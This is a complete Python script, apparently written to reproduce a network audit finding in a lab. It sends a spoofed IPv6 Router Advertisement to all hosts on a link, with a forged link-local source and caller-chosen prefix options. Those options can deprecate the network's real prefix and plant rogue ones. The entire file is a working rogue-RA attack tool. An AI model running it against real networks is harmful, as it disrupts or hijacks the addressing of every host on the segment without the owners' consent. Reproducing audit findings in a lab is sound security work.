#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""A router advertisement as a rogue LAN host sends one, for the lab.

    rogue_ra.py IFNAME SOURCE_LL PREFIX/64:VALID:PREFERRED...

Sends one RA (router lifetime 0: it offers itself as no router) to
ff02::1 out of IFNAME from the link-local SOURCE_LL, with one Prefix
Information Option (on-link, autonomous) per PREFIX, its valid and
preferred lifetimes in seconds. PREFERRED 0 deprecates a prefix, as the
audit's RA did to the real one (RFC 4861 4.2 and 4.6.2, RFC 4862 5.5.3).
"""
import ipaddress
import socket
import struct
import sys


def pio(spec):
    net, valid, preferred = spec.rsplit(":", 2)
    n = ipaddress.ip_network(net)
    return struct.pack("!BBBBIII16s", 3, 4, n.prefixlen, 0xC0, int(valid),
                       int(preferred), 0, n.network_address.packed)


def main():
    ifname, source = sys.argv[1], sys.argv[2]
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
    ra += b"".join(pio(p) for p in sys.argv[3:])
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    idx = socket.if_nametoindex(ifname)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, idx)
    s.bind((source, 0, 0, idx))
    s.sendto(ra, ("ff02::1", 0, 0, idx))   # the kernel sums ICMPv6


main()
